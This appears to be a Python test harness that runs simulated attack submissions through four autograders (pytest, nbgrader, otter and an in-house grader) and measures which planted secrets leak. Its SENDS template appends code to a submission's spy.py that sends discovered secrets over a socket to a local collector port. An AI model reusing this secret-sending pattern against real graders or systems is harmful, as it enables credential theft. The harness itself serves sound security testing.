"""The four graders, each run for real on one submission."""

import json
import os
import shutil
import sys
import time
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Protocol
from xml.etree import ElementTree

import nbformat
from attacks.attack import TASKS, Attack, solution
from attacks.field import Field, Secrets, recorded, write_files

from elsewhere.bounded import Ended, collecting, end_what_is_left, run
from elsewhere.checks import SOURCES, Check, checks
from grader.results import SubmissionStatus

HERE = Path(__file__).parent
BIN = Path(sys.executable).parent
CHECKS_IN_TIME = 4  # a check or cell has a quarter of a run's time where a grader lets one set it
KERNEL = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
SENDS = '''

def look(data, _look=look):
    """Tell of it over the network, too."""
    import socket

    before = len(FOUND)
    _look(data)
    if FOUND[before:]:
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as server:
                server.sendall("\\n".join(FOUND[before:]).encode())
        except OSError:
            pass
'''


@dataclass(frozen=True)
class Given:
    """What a grader made of a submission."""

    points: float | None
    """None: no grade came out."""
    learned: frozenset[str]
    """Places whose secrets got out."""
    left: tuple[str, ...]
    """Processes that outlived the run."""
    seconds: float
    said: str


class Grader(Protocol):
    """One that can be compared."""

    name: str

    def prepare(self, folder: Path) -> None:
        """Set the course up, once."""
        ...

    def grade(self, attack: Attack, folder: Path) -> Given:
        """Grade a submission in a new folder of its own."""
        ...


class _Peer:
    """What the other graders' runs have in common: secrets to be found, surroundings, and somewhere to send to."""

    name = ""

    def __init__(self, limit: float) -> None:
        self.limit = limit
        self.secrets = Secrets()
        self.course = Path()

    def prepare(self, folder: Path) -> None:
        self.course = folder
        self.set_up()

    def set_up(self) -> None:
        raise NotImplementedError

    def command(self, files: Mapping[str, str | bytes], folder: Path) -> tuple[list[str], Path]:
        """Lay a submission out; the command that grades it, and where."""
        raise NotImplementedError

    def points(self, folder: Path, ended: Ended) -> float | None:
        raise NotImplementedError

    def grade(self, attack: Attack, folder: Path) -> Given:
        with collecting() as collector:
            files = {**attack.files, "spy.py": with_sender(attack, collector.port)}
            command, where = self.command(files, folder)
            environment = surroundings(folder, ARENA_SECRET=self.secrets.at("environment"))
            ended = run(command, where, environment, self.limit)
            points = self.points(folder, ended)
            told = collector.got.decode("utf-8", "replace")
        learned = frozenset(self.secrets.found_in(ended.said + told))
        return Given(points, learned, tuple(ended.left), ended.seconds, ended.said)

    def must(self, *command: str) -> None:
        """Run one of the instructor's own commands."""
        ended = run(command, self.course, surroundings(self.course), self.limit)
        if ended.code != 0:
            raise SystemExit(f"{' '.join(command)} ended with {ended.code}:\n{ended.said[-3000:]}")


class Pytest(_Peer):
    """pytest in one process with the student's files; points by its JUnit report."""

    name = "pytest"

    def set_up(self) -> None:
        secret = f'\nSECRET = "{self.secrets.at("suite")}"\n'
        files = {f"hidden/test_{path.stem.removeprefix('test_')}.py": path.read_text() + secret for path in SOURCES}
        write_files(self.course, files)
        write_files(self.course, {f"solutions/{task}.py": self._solution(task) for task in TASKS})

    def _solution(self, task: str) -> str:
        return f"{solution(task)}\n# {self.secrets.at('solution')}\n"

    def command(self, files: Mapping[str, str | bytes], folder: Path) -> tuple[list[str], Path]:
        shutil.copytree(self.course, folder, dirs_exist_ok=True)
        write_files(folder / "work", files)
        words = [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-p", "no:grader", "-q"]
        words += [f"--timeout={self.limit / CHECKS_IN_TIME:g}", f"--junit-xml={folder / 'report.xml'}"]
        words += ["--rootdir", str(folder), str(folder / "hidden")]
        return words, folder / "work"

    def points(self, folder: Path, ended: Ended) -> float | None:
        worth = {check.name: check.points for check in checks()}
        try:
            cases = list(ElementTree.parse(folder / "report.xml").iter("testcase"))
        except (OSError, ElementTree.ParseError):
            return None
        passed = [case.get("name", "").removeprefix("test_") for case in cases if len(case) == 0]
        return None if ended.code is None else sum(worth.get(name, 0) for name in passed)


class Nbgrader(_Peer):
    """`nbgrader autograde` on a notebook with the student's code in its solution cells; points by its gradebook."""

    name = "nbgrader"

    def set_up(self) -> None:
        shutil.copy(HERE / "nbgrader_config.py", self.course)
        source = self.course / "source" / "arena"
        source.mkdir(parents=True)
        nbformat.write(self._source(), source / "arena.ipynb")
        self.must(str(BIN / "nbgrader"), "generate_assignment", "arena")

    def _source(self) -> nbformat.NotebookNode:
        cells = []
        for task in TASKS:
            region = f"### BEGIN SOLUTION\n{solution(task)}\n# {self.secrets.at('solution')}\n### END SOLUTION"
            cells.append(_nbgrader_cell(region, task, solution=True))
            cells += [self._grade_cell(check) for check in checks() if check.task == task]
        return nbformat.v4.new_notebook(cells=cells, metadata=KERNEL)

    def _grade_cell(self, check: Check) -> nbformat.NotebookNode:
        code = check.in_cell(f'SECRET = "{self.secrets.at("suite")}"')
        return _nbgrader_cell(code, f"check-{check.name}", grade=True, locked=True, points=check.points)

    def command(self, files: Mapping[str, str | bytes], folder: Path) -> tuple[list[str], Path]:
        shutil.copytree(self.course, folder, dirs_exist_ok=True)
        handed_in = folder / "submitted" / "student" / "arena"
        shutil.copytree(folder / "release" / "arena", handed_in)
        notebook = nbformat.read(handed_in / "arena.ipynb", as_version=4)
        for cell in notebook.cells:
            if (task := cell.metadata.nbgrader.grade_id) in TASKS:
                cell.source = files[f"{task}.py"]
        nbformat.write(notebook, handed_in / "arena.ipynb")
        write_files(handed_in, _beside(files))
        seconds = int(self.limit / CHECKS_IN_TIME)
        return [str(BIN / "nbgrader"), "autograde", "arena", f"--ExecutePreprocessor.timeout={seconds}"], folder

    def points(self, folder: Path, ended: Ended) -> float | None:
        return recorded(folder / "gradebook.db").get("student") if ended.code == 0 else None


class Otter(_Peer):
    """`otter run` on a notebook of the student's code, with the files beside it; points by its results.json."""

    name = "otter"

    def set_up(self) -> None:
        secret = f'SECRET = "{self.secrets.at("suite")}"'
        write_files(self.course, {f"tests/{check.name}.py": check.as_otter_file(secret) for check in checks()})
        shutil.copy(HERE / "otter_config.json", self.course)
        solved = {f"{task}.py": f"{solution(task)}\n# {self.secrets.at('solution')}\n" for task in TASKS}
        (self.course / "autograder").mkdir()
        nbformat.write(_notebook_of(solved), self.course / "autograder" / "arena.ipynb")
        generate = ("generate", "--tests-dir", "tests", "--config", "otter_config.json", "--no-requirements")
        self.must(str(BIN / "otter"), *generate, "--no-environment", "--output-path", "autograder/autograder.zip")

    def command(self, files: Mapping[str, str | bytes], folder: Path) -> tuple[list[str], Path]:
        shutil.copytree(self.course, folder, dirs_exist_ok=True)
        with zipfile.ZipFile(folder / "submission.zip", "w") as handed_in:
            handed_in.writestr("arena.ipynb", nbformat.writes(_notebook_of(files)))
            for name, content in _beside(files).items():
                handed_in.writestr(name, content)
        (folder / "out").mkdir()
        words = ["--autograder", str(folder / "autograder" / "autograder.zip"), "--output-dir", str(folder / "out")]
        return [str(BIN / "otter"), "run", *words, "--no-logo", str(folder / "submission.zip")], folder / "out"

    def points(self, folder: Path, ended: Ended) -> float | None:
        path = folder / "out" / "results.json"
        if ended.code != 0 or not path.exists():
            return None
        tests = json.loads(path.read_text())["tests"]
        failed = any(test["name"] == "Autograder Failed" for test in tests)  # otter's own words for no results
        return None if failed else float(sum(test.get("score", 0) for test in tests))


class Ours:
    """`grader grade` on the attacks' own field, with secrets in many more places."""

    name = "grader"

    def __init__(self, limit: float) -> None:
        pass  # it has limits of its own

    def prepare(self, folder: Path) -> None:
        pass

    def grade(self, attack: Attack, folder: Path) -> Given:
        field = Field()
        try:
            with collecting() as collector:
                files = {**attack.files, "spy.py": with_sender(attack, collector.port)}
                write_files(field.handed_in / attack.name, files)
                started = time.perf_counter()
                after = field.run(jobs=1)
                seconds = time.perf_counter() - started
                told = after.raw.get(attack.name, "") + collector.got.decode("utf-8", "replace")
            end_what_is_left()
            learned = frozenset(after.secrets.found_in(told))
            result = after.results.get(attack.name)
            graded = after.code == 0 and result is not None and result.status is SubmissionStatus.GRADED
            points = after.gradebook.get(attack.name) if graded else None
            return Given(points, learned, tuple(after.left_processes), seconds, after.said + told)
        finally:
            field.close()


def surroundings(folder: Path, **more: str) -> dict[str, str]:
    """The environment of a run, whose temporary files and settings are in its own folder."""
    temporary = folder.parent / f"{folder.name}-tmp"
    temporary.mkdir(exist_ok=True)
    own = dict.fromkeys(("TMPDIR", "IPYTHONDIR", "JUPYTER_RUNTIME_DIR", "JUPYTER_CONFIG_DIR"), str(temporary))
    single = dict.fromkeys(("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"), "1")
    path = f"{BIN}{os.pathsep}{os.environ['PATH']}"
    return {**os.environ, **own, **single, "PATH": path, "PYTHONPATH": "", "COLUMNS": "200", **more}


def with_sender(attack: Attack, port: int) -> str:
    """The attack's `spy.py`, which also sends what it finds to a port."""
    return str(attack.files["spy.py"]) + SENDS.format(port=port)


def _beside(files: Mapping[str, str | bytes]) -> dict[str, str | bytes]:
    """The files that are handed in beside a notebook."""
    return {name: content for name, content in files.items() if name.removesuffix(".py") not in TASKS}


def _notebook_of(files: Mapping[str, str | bytes]) -> nbformat.NotebookNode:
    cells = [nbformat.v4.new_code_cell(files[f"{task}.py"]) for task in TASKS]
    return nbformat.v4.new_notebook(cells=cells, metadata=KERNEL)


def _nbgrader_cell(code: str, name: str, **facts: object) -> nbformat.NotebookNode:
    marks = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3, **facts}
    return nbformat.v4.new_code_cell(code, metadata={"nbgrader": {"grade_id": name, **marks}})
